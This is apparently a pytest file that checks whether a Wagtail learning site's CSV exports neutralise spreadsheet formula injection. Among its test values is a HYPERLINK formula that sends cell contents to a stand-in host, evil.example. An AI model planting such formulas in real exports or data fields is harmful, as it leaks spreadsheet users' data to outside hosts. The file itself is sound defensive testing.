"""Every CSV the project serves is written by core/csv.py: Wagtail's admin exports (the site
history labels accommodations with the trainee's name), the transcript and the question bank."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import reverse
from wagtail.log_actions import log

from tests.factories import AccommodationFactory, UserFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def rows(response) -> list[list[str]]:
    content = (
        b"".join(response.streaming_content) if response.streaming else response.content
    ).decode()
    return list(csv.reader(io.StringIO(content)))


def cells(table) -> list[str]:
    return [cell for row in table for cell in row]


def test_site_history_csv_neutralises_a_trainee_named_like_a_formula(course_tree):
    from tests.assessments.conftest import make_assessment

    quiz, _ = make_assessment(course_tree.modules[0], types=["single"])
    admin = UserFactory(is_superuser=True, is_staff=True)
    trainee = UserFactory(first_name=FORMULA, last_name="Doe")
    accommodation = AccommodationFactory(trainee=trainee, assessment=quiz, extra_minutes=10)
    log(instance=accommodation, action="wagtail.create", user=admin)
    client = Client()
    client.force_login(admin)
    response = client.get(reverse("wagtailadmin_reports:site_history") + "?export=csv")
    assert response.status_code == 200
    table = cells(rows(response))
    labels = [cell for cell in table if "HYPERLINK" in cell]
    assert labels, table
    assert all(cell.startswith("'=") for cell in labels)
    assert not [cell for cell in table if cell[:1] in ("=", "+", "-", "@")]


def test_aging_pages_csv_neutralises_page_titles(course_tree):
    page = course_tree.lessons[0][0]
    page.title = "+SUM(1,2)"
    page.save_revision().publish()
    admin = UserFactory(is_superuser=True, is_staff=True)
    client = Client()
    client.force_login(admin)
    response = client.get(reverse("wagtailadmin_reports:aging_pages") + "?export=csv")
    table = cells(rows(response))
    assert "'+SUM(1,2)" in table and "+SUM(1,2)" not in table


def test_transcript_csv_neutralises_course_module_and_assessment_titles():
    from continuing_education.transcript import Transcript, transcript_csv

    transcript = Transcript(
        holder_name="Robin Okafor",
        generated_on=date(2026, 5, 1),
        courses=[
            {
                "title": "=1+1",
                "modules": [
                    {"completed_on": date(2026, 4, 1), "title": "+cmd", "hours": Decimal("2")}
                ],
            }
        ],
        assessments=[
            {"on": date(2026, 4, 2), "title": "@SUM(A1)", "percent": Decimal("80"), "passed": True}
        ],
        cycles=[],
    )
    table = list(csv.reader(io.StringIO(transcript_csv(transcript))))
    assert table[1][1] == "'=1+1" and table[1][4] == "'+cmd"
    assert table[2][4] == "'@SUM(A1)"


def test_question_bank_csv_neutralises_formula_text_and_imports_it_back_unchanged():
    from assessments.importexport import export_bank, import_bank
    from assessments.models import Question
    from tests.factories import QuestionCategoryFactory, QuestionFactory

    category = QuestionCategoryFactory(name="-Crisis Support")
    QuestionFactory(category=category, type="single", key="formula", text="=2+2 is how many?")
    exported = export_bank(fmt="csv")
    table = list(csv.reader(io.StringIO(exported)))
    assert "'=2+2 is how many?" in table[1] and "'-Crisis Support" in table[1]
    Question.objects.all().delete()
    report = import_bank(exported, fmt="csv")
    assert report.errors == [] and report.created == 1
    assert Question.objects.get(key="formula").text == "=2+2 is how many?"
    assert export_bank(fmt="csv") == exported
